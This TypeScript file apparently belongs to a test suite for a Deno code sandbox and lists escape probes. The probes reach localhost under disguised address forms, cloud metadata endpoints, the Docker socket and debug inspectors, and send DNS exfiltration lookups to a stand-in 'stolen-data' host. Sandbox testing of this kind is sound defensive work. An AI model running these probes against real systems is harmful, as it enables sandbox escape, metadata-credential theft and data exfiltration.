import { COLLECT, told } from "./attack.ts";
import type { Attack } from "./attack.ts";

const reaching = (
  hosts: readonly string[],
  port: number,
): string => `import net from "node:net"; import http from "node:http"; import dgram from "node:dgram";
${COLLECT}for (const host of ${JSON.stringify(hosts)}) {
  const url = "http://" + host + ":${port}/x"; const signal = () => AbortSignal.timeout(500);
  await attempt(() => fetch(url, { signal: signal() }).then((answer) => answer.text()));
  await attempt(() => Deno.connect({ hostname: host.replaceAll(/[\\[\\]]/g, ""), port: ${port} }));
  await attempt(() => new Promise((ok, no) => net.connect({ host, port: ${port} }, () => ok("net")).on("error", no)));
  await attempt(() => new Promise((ok, no) => http.get(url, () => ok("http")).on("error", no)));
  await attempt(() => new Promise((ok, no) => { const socket = new WebSocket(url.replace("http", "ws")); socket.onopen = () => ok("ws"); socket.onerror = () => no(new Error("ws")); setTimeout(no, 500); }));
  await attempt(() => new Promise((ok, no) => { const source = new EventSource(url); source.onopen = () => ok("sse"); source.onerror = () => { source.close(); no(new Error("sse")); }; setTimeout(no, 500); }));
  await attempt(() => new Promise((ok, no) => dgram.createSocket("udp4").on("error", no).send("x", ${port}, host, (error) => (error ? no(error) : ok("udp")))));
}
return texts();`;

/** Attacks that reach for the network. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  {
    title: "services of this host",
    programs: ({ port }) => reaching(["127.0.0.1", "localhost", "[::1]", "0.0.0.0"], port),
    limits: { timeoutMs: 15_000 },
  },
  {
    title: "addresses in other forms",
    programs: ({ port }) => reaching(["2130706433", "0x7f000001", "127.1", "[::ffff:127.0.0.1]"], port),
    limits: { timeoutMs: 15_000 },
  },
  {
    title: "a cloud's metadata",
    programs: () => reaching(["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal"], 80),
    limits: { timeoutMs: 15_000 },
  },
  {
    title: "names looked up that carry data",
    programs: () => `import dns from "node:dns/promises"; ${COLLECT}
for (const type of ["A", "AAAA", "TXT", "MX"]) await attempt(() => Deno.resolveDns("stolen-data.attack.invalid", type as any));
await attempt(() => dns.lookup("localhost")); await attempt(() => dns.resolve4("stolen.attack.invalid")); await attempt(() => Deno.connect({ hostname: "stolen.attack.invalid", port: 53 }));
return got.filter((one) => typeof one !== "string").length;`,
    check: ({ results }) => {
      if (results[0]?.value !== 0) throw new Error("a name was looked up");
    },
  },
  {
    title: "sockets of the file system",
    programs: ({ socket }) => `import net from "node:net"; ${COLLECT}
for (const path of [${JSON.stringify(socket)}, "/var/run/docker.sock", "/run/docker.sock", "/workspace/s.sock"]) { await attempt(() => Deno.connect({ transport: "unix", path })); await attempt(() => new Promise((ok, no) => net.connect(path, () => ok("unix")).on("error", no))); }
return texts();`,
  },
  {
    title: "listening, and inspectors",
    programs: ({ pid }) => `${COLLECT}
await attempt(() => { Deno.listen({ port: 0 }); return "OPEN"; }); await attempt(() => { Deno.serve({ port: 0 }, () => new Response("x")); return "OPEN"; });
await attempt(async () => { (await import("node:inspector")).open(0); return "OPEN"; });
await attempt(async () => { const session = new (await import("node:inspector")).Session(); session.connectToMainThread(); return "OPEN"; });
await attempt(() => { Deno.kill(${pid}, "SIGUSR1"); return "OPEN"; });
return texts();`,
    check: (evidence) => {
      if (told(evidence).includes("OPEN")) throw new Error("something was opened");
    },
  },
  {
    title: "modules from the network",
    programs: ({ port }) => `${COLLECT}
for (const url of ["http://127.0.0.1:${port}/x.ts", "https://attack.invalid/x.ts", "npm:left-pad", "jsr:@std/fs"]) await attempt(() => import(url));
await attempt(() => new Worker("http://127.0.0.1:${port}/x.js", { type: "module" }));
await attempt(() => navigator.sendBeacon?.("http://127.0.0.1:${port}/x", "data"));
await attempt(() => caches.open("x").then((cache) => cache.add("http://127.0.0.1:${port}/x")));
return got.filter((one) => typeof one === "object").length;`,
  },
  {
    title: "data in how long a run takes is all that is left: no finer clock than the runtime's",
    programs: () =>
      `const steps = new Set(); for (let at = 0; at < 2000; at++) steps.add(performance.now()); return typeof SharedArrayBuffer;`,
  },
];
